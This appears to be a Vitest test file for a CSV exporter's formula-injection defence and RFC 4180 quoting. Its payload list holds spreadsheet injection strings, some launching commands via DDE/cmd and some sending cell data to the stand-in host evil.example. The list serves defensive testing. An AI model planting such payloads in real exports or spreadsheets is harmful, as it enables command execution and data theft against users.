import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutralise, toCsv, unneutralise } from '../../src/domain/export/csv.ts';

/**
 * Payloads from the OWASP CSV-injection page and public formula-injection lists: each would run
 * (or fetch, or launch) something if a spreadsheet evaluated it.
 */
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Click for details")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-@SUM(1+1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(A1:A10)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=1+1\n=2+2',
  '＝1+1',
  '"=1+1"',
  ';=1+1',
  '=1+1,=2+2',
  "'=1+1",
  '=SUM(1;1)',
  '=1+1"&"',
];

/** Whether a spreadsheet would start evaluating a cell with this text. */
const startsFormula = (cell: string) => /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);

describe('CSV formula-injection defence (OWASP)', () => {
  it.each(PAYLOADS)('neutralises %j: no cell starts a formula, and the value reads back exactly', (payload) => {
    const csv = toCsv(['name', 'notes'], [[payload, `note ${payload}`]]);
    const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const [header, row] = parsed.data;
    expect(header).toEqual(['name', 'notes']);
    expect(row).toHaveLength(2);
    for (const cell of row!) expect(startsFormula(cell)).toBe(false);
    expect(unneutralise(row![0]!)).toBe(payload);
    expect(unneutralise(row![1]!)).toBe(`note ${payload}`);
  });

  it('prefixes exactly the dangerous leading characters, and apostrophes so the prefix can be undone', () => {
    expect(neutralise('=A1')).toBe("'=A1");
    expect(neutralise('+A1')).toBe("'+A1");
    expect(neutralise('-A1')).toBe("'-A1");
    expect(neutralise('@A1')).toBe("'@A1");
    expect(neutralise('\tA1')).toBe("'\tA1");
    expect(neutralise('\rA1')).toBe("'\rA1");
    expect(neutralise("'quoted")).toBe("''quoted");
    expect(neutralise('Acme = best')).toBe('Acme = best');
    expect(neutralise('a-b')).toBe('a-b');
  });

  it('writes our own numbers plainly, even negative ones', () => {
    expect(toCsv(['x'], [[-0.25]])).toBe('\uFEFFx\r\n-0.25\r\n');
  });
});

describe('RFC 4180 writing', () => {
  it('quotes fields with commas, quotes and line breaks, uses CRLF and starts with a UTF-8 BOM', () => {
    const csv = toCsv(
      ['a', 'b', 'c', 'd'],
      [
        ['plain', 'with, comma', 'say "hi"', 'two\nlines'],
        [null, 42, true, 'Zürich 東京'],
      ],
    );
    expect(csv).toBe('\uFEFFa,b,c,d\r\nplain,"with, comma","say ""hi""","two\nlines"\r\n,42,true,Zürich 東京\r\n');
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });
});
